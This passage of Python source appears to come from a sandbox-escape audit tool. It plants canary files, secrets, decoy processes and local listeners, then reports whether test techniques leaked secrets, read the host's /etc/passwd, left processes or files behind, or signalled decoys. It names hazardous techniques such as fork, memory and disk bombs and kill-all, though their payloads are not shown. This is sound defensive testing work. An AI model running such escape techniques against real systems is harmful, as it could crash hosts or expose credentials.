        self.killed: set[int] = set()
        self.reported: set[int] = set()
        self.unattributed: list[str] = []
        self.followup_baseline: dict[str, str] = {}
        self.max_lag_s = 0.0
        try:
            with open("/etc/passwd") as fh:
                self.passwd = fh.read().strip()
        except OSError:
            self.passwd = ""

    # --- bait ----------------------------------------------------------------------------------
    async def setup(self) -> None:
        loop = asyncio.get_running_loop()
        sleep_bin = "/bin/sleep" if os.path.exists("/bin/sleep") else "/usr/bin/sleep"
        for i, tech in enumerate(self.techniques):
            marker = f"{self.run_marker}-t{i:03d}"
            secret = secrets.token_hex(16)
            path = os.path.join(self.canary_dir, f"canary-{i:03d}")
            content = f"retool canary {secret}\n".encode()
            with open(os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600), "wb") as fh:
                fh.write(content)
            bait = Bait(index=i, technique=tech, marker=marker, canary_path=path, canary_bytes=content,
                         canary_secret=secret,
                         env_name=f"{self.env_prefix}{i:03d}", env_secret=secrets.token_hex(16),
                         decoy_secret=secrets.token_hex(16))
            self.baits.append(bait)  # from here on, teardown undoes whatever part of it exists
            self.by_name[tech.name] = bait
            os.environ[bait.env_name] = bait.env_secret
            bait.fd = os.open(path, os.O_RDWR)
            os.set_inheritable(bait.fd, True)
            bait.decoy = subprocess.Popen(
                [f"retool-decoy-{bait.decoy_secret}", "3600"], executable=sleep_bin,
                env={"RETOOL_DECOY_SECRET": bait.decoy_secret}, start_new_session=True,
                stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                preexec_fn=_die_with_parent,
            )

            async def on_tcp(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, bait: Bait = bait) -> None:
                bait.hits.append(b"tcp-connect")
                try:
                    bait.hits.append(await asyncio.wait_for(reader.read(4096), 1.0))
                except (TimeoutError, ConnectionError):
                    pass
                writer.close()

            server = await asyncio.start_server(on_tcp, "127.0.0.1", 0)
            self.servers.append(server)
            bait.tcp_port = server.sockets[0].getsockname()[1]

            class _Udp(asyncio.DatagramProtocol):
                def datagram_received(self, data: bytes, addr: Any, bait: Bait = bait) -> None:
                    bait.hits.append(b"udp:" + data)

            transport, _ = await loop.create_datagram_endpoint(_Udp, local_addr=("127.0.0.1", 0))
            bait.udp_port = transport.get_extra_info("sockname")[1]
            self.servers.append(transport)

    async def teardown(self) -> None:
        for server in self.servers:
            server.close()
            if isinstance(server, asyncio.Server):
                await server.wait_closed()
        for bait in self.baits:
            os.environ.pop(bait.env_name, None)
            if bait.fd >= 0:
                os.close(bait.fd)
            if bait.decoy is not None and bait.decoy.poll() is None:
                bait.decoy.kill()
            if bait.decoy is not None:
                bait.decoy.wait()
        self._kill_leaks()
        self._scan_files(remove=True)
        for name in os.listdir(self.canary_dir):
            os.unlink(os.path.join(self.canary_dir, name))
        os.rmdir(self.canary_dir)

    # --- calls ---------------------------------------------------------------------------------
    async def call(self, code: str, timing: list[float] | None = None) -> tuple[str | None, str]:
        """(output, problem): problem is '' or 'hang: ...' or 'error: ...'; appends the seconds to timing."""

        async def go() -> Any:
            result = self.sandbox.execute_code(code)
            return await result if inspect.isawaitable(result) else result

        async with self.sem:
            start = time.monotonic()
            try:
                out = await asyncio.wait_for(go(), self.bound_s)
            except TimeoutError:
                return None, f"hang: no return within {self.bound_s:.1f} s"
            except Exception as exc:  # noqa: BLE001 (a sandbox must not raise; record what it raised)
                return None, f"error: execute_code raised {type(exc).__name__}: {str(exc)[:200]}"
            finally:
                if timing is not None:
                    timing.append(time.monotonic() - start)
        if not isinstance(out, str):
            return None, f"error: execute_code returned {type(out).__name__}, not str"
        return out, ""

    def check_output(self, bait: Bait, out: str, where: str) -> None:
        if len(out) > self.max_output_chars:
            bait.add("output_flood", f"{where}: {len(out)} chars > cap {self.max_output_chars}")
            # already an escape: scan only both ends, so a flood cannot stall the auditor
            out = out[: 2 * self.max_output_chars] + "\n" + out[-2 * self.max_output_chars:]
        # every secret is 32 lowercase hex digits: one linear scan finds them all
        seen = {run[i:i + 32] for run in _HEX_RUN.findall(out) for i in range(len(run) - 31)}
        for effect, what, secret_of in (
            ("canary_read", "canary secret", lambda b: b.canary_secret),
            ("env_leak", "environment secret", lambda b: b.env_secret),
            ("proc_leak", "decoy argv/env secret", lambda b: b.decoy_secret),
        ):
            whose = [b.technique.name for b in self.baits if secret_of(b) in seen]
            if whose:
                more = f" (+{len(whose) - 2} more)" if len(whose) > 2 else ""
                bait.add(effect, f"{where}: {what} of {', '.join(whose[:2])}{more} in output")
        if f"{bait.marker}-BREACH" in out:
            bait.add("limit_breach", f"{where}: breach marker printed")
        lines = self.passwd.splitlines()
        if len(lines) >= 2 and lines[0] in out and lines[-1] in out:
            bait.add("host_file", f"{where}: the host's /etc/passwd (first and last line) in output")

    async def run_one(self, bait: Bait) -> None:
        code = render(bait.technique, bait, canary_dir=self.canary_dir, mem_bytes=self.mem_bytes,
                      disk_bytes=self.disk_bytes)
        timing: list[float] = []
        out, problem = await self.call(code, timing)
        bait.duration_s = max([bait.duration_s, *timing])
        if problem.startswith("hang"):
            bait.add("hang", problem)
        elif problem:
            bait.error = problem
        if out is not None:
            bait.output_head = out[:160]
            self.check_output(bait, out, "technique")
        follow = bait.technique.followup
        if follow is not None:
            outs = await asyncio.gather(*(self.call(follow) for _ in range(min(4, self.concurrency))))
            for fout, fproblem in outs:
                if fout is None or fout != self.followup_baseline[follow]:
                    bait.add("contamination", f"reference snippet gave {(fout or fproblem)[:120]!r}, "
                                              f"before {self.followup_baseline[follow][:120]!r}")

    # --- effects seen from outside --------------------------------------------------------------
    def _owner(self, bait: Bait, data: bytes, group: Sequence[Bait]) -> Bait:
        for other in self.baits:
            if other.marker.encode() in data:
                return other
        return group[0] if len(group) == 1 and bait not in group else bait

    def sweep_baits(self, group: Sequence[Bait]) -> None:
        for bait in self.baits:
            name = bait.technique.name
            if not bait.canary_reported:
                try:
                    with open(bait.canary_path, "rb") as fh:
                        now = fh.read()
                except OSError as exc:
                    now = None
                    bait.canary_reported = True
                    self._owner(bait, b"", group).add("canary_write", f"canary of {name} gone: {exc}")
                if now is not None and now != bait.canary_bytes:
                    bait.canary_reported = True
                    self._owner(bait, now, group).add("canary_write", f"canary of {name} now {now[:80]!r}")
            for data in bait.hits[bait.hits_reported:]:
                self._owner(bait, data, group).add("network", f"listener of {name} got {data[:60]!r}")
                self.check_output(self._owner(bait, data, group), data.decode(errors="replace"), "listener")
            bait.hits_reported = len(bait.hits)
            if bait.decoy is not None and not bait.decoy_reported:
                state = self._decoy_state(bait.decoy.pid, bait.decoy.poll())
                if state:
                    bait.decoy_reported = True
                    self._owner(bait, b"", group).add("signal", f"decoy of {name} (pid {bait.decoy.pid}) {state}")
        expected = {os.path.basename(b.canary_path) for b in self.baits}
        for entry in sorted(set(os.listdir(self.canary_dir)) - expected):
            owner = self._match_marker(entry) or (group[0] if len(group) == 1 else None)
            text = f"file {entry!r} appeared in the canary dir"
            owner.add("canary_write", text) if owner else self.unattributed.append(text)
            os.unlink(os.path.join(self.canary_dir, entry))

    @staticmethod
    def _decoy_state(pid: int, returncode: int | None) -> str:
        if returncode is not None:
            return f"died (returncode {returncode})"
        try:
            with open(f"/proc/{pid}/status") as fh:
                status = dict(line.split(":", 1) for line in fh if ":" in line)
        except OSError:
            return ""
        if status.get("TracerPid", "0").strip() != "0":
            return "is being traced"
        state = status.get("State", "").strip()
        return f"state {state}" if state[:1] in ("T", "t") else ""

    def _match_marker(self, text: str) -> Bait | None:
        for bait in self.baits:
            if bait.marker in text:
                return bait
        return None

    def _scan_files(self, *, remove: bool) -> list[str]:
        found: list[str] = []
        roots = list(_WATCHED_DIRS) + [(os.getcwd(), 1)]
        budget = 50_000
        for root, depth in roots:
            todo = [(root, depth)]
            while todo and budget > 0:
                path, left = todo.pop()
                try:
                    entries = list(os.scandir(path))
                except OSError:
                    continue
                for entry in entries:
                    budget -= 1
                    if entry.path == self.canary_dir:
                        continue
                    if self.run_marker in entry.name:
                        found.append(entry.path)
                        if remove and not entry.is_dir(follow_symlinks=False):
                            try:
                                os.unlink(entry.path)
                            except OSError:
                                pass
                    elif left > 1 and entry.is_dir(follow_symlinks=False):
                        todo.append((entry.path, left - 1))
        return found

    def _leaked_processes(self) -> list[tuple[Any, bool]]:
        """New live processes of the battery's making: (process, provably ours).

        Provably ours (and so killed at cleanup): a descendant of this process that is not a
        direct child (the sandbox's own workers are), or one whose argv or environment carries
        this run's random marker. Also reported, never killed: an orphan (ppid 1) started during
        the audit whose argv equals a sandbox process's argv (a fork of a worker that escaped).
        """
        import psutil  # noqa: PLC0415

        me = psutil.Process()
        known = set(self.baseline) | self.killed | self.reported | {b.decoy.pid for b in self.baits if b.decoy}
        found: dict[int, tuple[Any, bool]] = {}
        for proc in psutil.process_iter(["pid", "ppid", "create_time", "cmdline", "status"]):
            info = proc.info
            if (info["pid"] in known or info["pid"] == me.pid or info["ppid"] == me.pid
                    or (info["create_time"] or 0) < self.started_at - 1
                    or info["status"] == psutil.STATUS_ZOMBIE):
                continue
            cmd = "\0".join(info["cmdline"] or ())
            try:
                ours = self.run_marker in cmd or self._is_descendant(proc, me.pid) or any(
                    k.startswith(self.env_prefix) for k in proc.environ())
            except (psutil.Error, OSError):
                ours = False
            if ours or (info["ppid"] == 1 and cmd in self.sandbox_cmdlines):
                found[proc.pid] = (proc, ours)
        return list(found.values())

    @staticmethod
    def _is_descendant(proc: Any, ancestor: int) -> bool:
        parent = proc.parent()
        while parent is not None:
            if parent.pid == ancestor:
                return True
            parent = parent.parent()
        return False

    def _kill_leaks(self) -> list[tuple[str, str]]:
        """Kill leaked processes that are provably ours (report the others once); returns
        (evidence, text to attribute it by: its own and its ancestors' argv)."""
        leaked, out = self._leaked_processes(), []
        for proc, ours in leaked:
            try:
                chain = [proc, *proc.parents()[:4]]
                text = "\n".join(" ".join(p.cmdline()) for p in chain)
                out.append((f"pid {proc.pid} {' '.join(proc.cmdline())[:100]!r} outlived its call", text))
            except Exception:  # noqa: BLE001 (it exited meanwhile)
                continue
        for proc, ours in leaked:
            self.reported.add(proc.pid)
            if ours:
                try:
                    proc.kill()
                    self.killed.add(proc.pid)
                except Exception:  # noqa: BLE001 (it exited meanwhile)
                    pass
        return out

    async def sweep_global(self, group: Sequence[Bait], grace_s: float) -> list[tuple[str, str]]:
        """Process, file and health effects after a group; attributable ones go to their bait."""
        import psutil  # noqa: PLC0415

        await asyncio.sleep(grace_s)
        problems: list[tuple[str, str]] = []
        deadline = time.monotonic() + 1.5
        while self._leaked_processes() and time.monotonic() < deadline:
            await asyncio.sleep(0.1)
        for desc, cmd in self._kill_leaks():
            owner = self._match_marker(cmd)
            owner.add("process_leak", desc) if owner else problems.append(("process_leak", desc))
        for path in self._scan_files(remove=True):
            owner = self._match_marker(os.path.basename(path))
            if owner:
                owner.add("file_leak", f"{path} left on disk")
        for pid, created in self.baseline.items():
            try:
                alive = psutil.Process(pid).create_time() == created and psutil.Process(pid).status() != "zombie"
            except psutil.Error:
                alive = False
            if not alive:
                problems.append(("supervisor", f"sandbox process {pid} died"))
                self.baseline = {p: c for p, c in self.baseline.items() if p != pid}
        out, problem = await self.call(HEALTH_CODE)
        if out is None or "42" not in out:
            problems.append(("supervisor", f"health probe failed: {(out or problem)[:120]!r}"))
        if self.max_lag_s > _LOOP_BLOCKED_S:
            problems.append(("loop_blocked", f"event loop blocked for {self.max_lag_s:.1f} s"))
        self.max_lag_s = 0.0
        self.sweep_baits(group)
        return problems

    async def run_group(self, group: Sequence[Bait], grace_s: float, *, bisect: bool = True) -> None:
        monitor = asyncio.create_task(self._watch_loop())
        try:
            await asyncio.gather(*(self.run_one(b) for b in group))
        finally:
            monitor.cancel()
        problems = await self.sweep_global(group, grace_s)
        if not problems:
            return
        if len(group) == 1:
            for effect, evidence in problems:
                group[0].add(effect, evidence)
            return
        before = {id(b): sum(len(v) for v in b.effects.values()) for b in group}
        if bisect:
            for bait in group:
                await self.run_group([bait], 0.3, bisect=False)
        if not any(sum(len(v) for v in b.effects.values()) > before[id(b)] for b in group):
            self.unattributed += [f"{effect}: {evidence} (after a concurrent group)" for effect, evidence in problems]

    async def _watch_loop(self) -> None:
        while True:
            start = time.monotonic()
            await asyncio.sleep(_LOOP_TICK_S)
            self.max_lag_s = max(self.max_lag_s, time.monotonic() - start - _LOOP_TICK_S)

    # --- the battery ---------------------------------------------------------------------------
    async def execute(self) -> None:
        import psutil  # noqa: PLC0415

        warm = await asyncio.gather(*(self.call(HEALTH_CODE) for _ in range(self.concurrency)))
        bad = [o or p for o, p in warm if o is None or "42" not in o]
        if bad:
            for bait in self.baits:
                bait.error = f"error: the sandbox failed the health probe before the battery: {bad[0][:160]!r}"
            return
        for follow in {b.technique.followup for b in self.baits} - {None}:
            out, problem = await self.call(follow)
            self.followup_baseline[follow] = out if out is not None else problem
        decoys = {b.decoy.pid for b in self.baits if b.decoy}
        snapshots = []
        for _ in range(2):  # two snapshots apart: a child still exiting after its call is not baseline
            snap = {}
            for proc in psutil.Process().children(recursive=True):
                try:
                    if proc.pid not in decoys and proc.status() != psutil.STATUS_ZOMBIE:
                        snap[proc.pid] = (proc.create_time(), "\0".join(proc.cmdline()))
                except psutil.Error:
                    pass
            snapshots.append(snap)
            await asyncio.sleep(0.2)
        for pid, (created, cmd) in snapshots[0].items():
            if snapshots[1].get(pid, (None,))[0] == created:
                self.baseline[pid] = created
                self.sandbox_cmdlines.add(cmd)
        concurrent = [b for b in self.baits if not b.technique.isolated]
        if concurrent:
            await self.run_group(concurrent, 0.6)
        for bait in (b for b in self.baits if b.technique.isolated):
            escaped = [b.technique.name for b in self.baits if b.effects]
            if bait.technique.hazardous and not self.run_hazardous:
                bait.skipped = "hazardous techniques disabled"
            elif bait.technique.hazardous and (escaped or self.unattributed):
                bait.skipped = f"not run: host-harming technique, and the sandbox already let out {escaped[:3]}"
            else:
                await self.run_group([bait], 0.05)
        await asyncio.sleep(0.3)
        await self.sweep_global([], 0.0)

    def report(self, duration_s: float) -> AuditReport:
        findings = []
        for b in self.baits:
            if b.effects:
                verdict = "escaped"
            elif b.error:
                verdict = "error"
            elif b.skipped:
                verdict = "skipped"
            else:
                verdict = "blocked"
            evidence = [e for v in b.effects.values() for e in v] + [x for x in (b.error, b.skipped) if x]
            findings.append(Finding(name=b.technique.name, category=b.technique.category, verdict=verdict,
                                    effects=tuple(b.effects), evidence=tuple(evidence),
                                    duration_s=round(b.duration_s, 3), output_head=b.output_head))
        return AuditReport(findings=tuple(findings), unattributed=tuple(self.unattributed), duration_s=duration_s,
                           sandbox=type(self.sandbox).__qualname__)


async def audit(
    sandbox: Any,
    *,
    techniques: Sequence[Technique] = TECHNIQUES,
    timeout_slack_s: float = 3.0,
    timeout_s: float | None = None,
    concurrency: int | None = None,
    memory_limit_bytes: int | None = None,
    disk_limit_bytes: int | None = None,
    max_output_chars: int | None = None,
    run_hazardous: bool = True,
) -> AuditReport:
    """Run ``techniques`` against ``sandbox`` (any object with ``execute_code(code) -> str``).

    Unset limits are read from the sandbox (``timeout_s``/``timeout``, ``concurrency``,
    ``memory_limit_bytes``, ``disk_limit_bytes``, ``max_output_chars``/``max_output_bytes``, on the
    object or its ``config``) or fall back to 10 s, 4, 1 GiB, 256 MiB and 1 MiB.
    """
    if not callable(getattr(sandbox, "execute_code", None)):
        raise TypeError(f"{type(sandbox).__qualname__} has no execute_code(code) -> str method")
    names = [t.name for t in techniques]
    if len(set(names)) != len(names) or not names:
        raise ValueError(f"techniques must be a non-empty list of unique names, got {names!r}")
    if timeout_slack_s < 0:
        raise ValueError(f"timeout_slack_s must be >= 0, got {timeout_slack_s!r}")
    mem = memory_limit_bytes or _number(sandbox, ("memory_limit_bytes",)) or float(1 << 30)
    disk = disk_limit_bytes or _number(sandbox, ("disk_limit_bytes", "max_file_bytes")) or float(256 << 20)
    cap = max_output_chars or _number(sandbox, ("max_output_chars", "max_output_bytes")) or float(1 << 20)
    auditor = _Auditor(
        sandbox, techniques,
        timeout_s=timeout_s or _number(sandbox, ("timeout_s", "timeout")) or DEFAULT_TIMEOUT_S,
        slack_s=timeout_slack_s,
        concurrency=int(concurrency or _number(sandbox, ("concurrency",)) or 4),
        mem_bytes=int(min(mem, _MEM_CAP_BYTES)), disk_bytes=int(min(disk, _DISK_CAP_BYTES)),
        max_output_chars=int(cap) + 4096, run_hazardous=run_hazardous,
    )
    start = time.monotonic()
    try:
        await auditor.setup()
        await auditor.execute()
    finally:
        await auditor.teardown()
    return auditor.report(time.monotonic() - start)


def format_report(report: AuditReport) -> str:
    """A technique-by-technique table, then the totals."""
    rows = [("technique", "category", "verdict", "effects / evidence", "s")]
    for f in report.findings:
        detail = ", ".join(f.effects) + (": " if f.effects else "") + ("; ".join(f.evidence)[:110])
        rows.append((f.name, f.category, f.verdict.upper() if f.verdict != "blocked" else f.verdict,
                     detail, f"{f.duration_s:.2f}"))
    widths = [max(len(r[i]) for r in rows) for i in range(4)]
    lines = ["  ".join(c.ljust(w) for c, w in zip(r[:4], widths)) + "  " + r[4] for r in rows]
    counts = {v: sum(f.verdict == v for f in report.findings) for v in ("blocked", "escaped", "error", "skipped")}
    lines.append("")
    lines += [f"unattributed: {u}" for u in report.unattributed]
    lines.append(f"{len(report.findings)} techniques against {report.sandbox}: "
                 + ", ".join(f"{n} {v}" for v, n in counts.items())
                 + f" in {report.duration_s:.1f} s -> {'PASS' if report.ok else 'FAIL'}")
    return "\n".join(lines)


# ----------------------------------------------------------------------------------------------
# CLI (``retool sandbox audit``; retool/sandbox_cli.py calls these two)
# ----------------------------------------------------------------------------------------------


def load_factory(spec: str) -> Callable[[], Any]:
    """``"pkg.mod:Name"`` (``Name`` may be dotted) -> the callable; ValueError with the reason."""
    module_name, sep, attr = spec.partition(":")
    if not sep or not module_name or not attr or ":" in attr:
        raise ValueError(f"--sandbox must look like 'pkg.module:Factory', got {spec!r}")
    try:
        obj: Any = importlib.import_module(module_name)
    except Exception as exc:  # noqa: BLE001 (any failure to import is the user's spec problem)
        raise ValueError(f"cannot import module {module_name!r} (from {spec!r}): {type(exc).__name__}: {exc}") from exc
    for part in attr.split("."):
        if not hasattr(obj, part):
            raise ValueError(f"module {module_name!r} has no attribute {attr!r} (from {spec!r})")
        obj = getattr(obj, part)
    if not callable(obj):
        raise ValueError(f"{spec!r} is a {type(obj).__name__}, not a callable factory")
    return obj


def add_audit_arguments(parser: argparse.ArgumentParser) -> None:
    parser.add_argument("--sandbox", metavar="PKG.MOD:FACTORY", default=None,
                        help="zero-argument callable returning an object with async execute_code(code) -> str "
                             "(default: retool.sandbox.PythonSandbox)")
    parser.add_argument("--timeout-s", type=float, default=None,
                        help="the audit's hang bound (plus slack); for the default sandbox also its timeout "
                             f"(default {AUDIT_TIMEOUT_S:g} s: the hang techniques each wait this long)")
    parser.add_argument("--memory-limit", default=AUDIT_MEMORY_LIMIT,
                        help=f"memory limit of the default sandbox (default {AUDIT_MEMORY_LIMIT}: the memory bombs "
                             "allocate just past it); the isolation layers are the same at any limit")
    parser.add_argument("--timeout-slack-s", type=float, default=3.0, help="grace over the timeout before a hang")
    parser.add_argument("--only", action="append", default=None, metavar="NAME", help="run only this technique")
    parser.add_argument("--no-hazardous", action="store_true", help="skip fork/memory/disk bombs and kill-all")
    parser.add_argument("--list", action="store_true", help="list the techniques and exit")


def run_audit_command(args: argparse.Namespace) -> int:
    """0 when every technique was blocked, 1 on any escape, 2 on errors or bad arguments."""
    import sys  # noqa: PLC0415

    if args.list:
        for t in TECHNIQUES:
            print(f"{t.name:34} {t.category:14} {' '.join(t.aims)}{'  [hazardous]' if t.hazardous else ''}")
        return 0
    try:
        techniques = TECHNIQUES
        if args.only:
            unknown = sorted(set(args.only) - {t.name for t in TECHNIQUES})
            if unknown:
                raise ValueError(f"unknown technique(s) {unknown}; see --list")
            techniques = tuple(t for t in TECHNIQUES if t.name in args.only)
        if args.sandbox:
            factory = load_factory(args.sandbox)
            kwargs: dict[str, Any] = {}
        else:
            factory = load_factory("retool.sandbox:PythonSandbox")
            kwargs = {"timeout": args.timeout_s or AUDIT_TIMEOUT_S, "memory_limit": args.memory_limit}
    except ValueError as exc:
        print(f"retool sandbox audit: {exc}", file=sys.stderr)
        return 2
    try:
        sandbox = factory(**kwargs)
    except Exception as exc:  # noqa: BLE001 (report why the sandbox would not start)
        print(f"retool sandbox audit: {args.sandbox or 'PythonSandbox'} failed to start: "
              f"{type(exc).__name__}: {exc}", file=sys.stderr)
        return 2

    async def main() -> AuditReport:
        try:
            return await audit(sandbox, techniques=techniques, timeout_slack_s=args.timeout_slack_s,
                               timeout_s=args.timeout_s, run_hazardous=not args.no_hazardous)
        finally:
            closer = getattr(sandbox, "close", None) or getattr(sandbox, "aclose", None)
            if callable(closer):
                result = closer()
                if inspect.isawaitable(result):
                    await result

    try:
        report = asyncio.run(main())
    except TypeError as exc:
        print(f"retool sandbox audit: {exc}", file=sys.stderr)
        return 2
    print(format_report(report))
    if report.escaped or report.unattributed:
        return 1
    return 0 if report.ok else 2
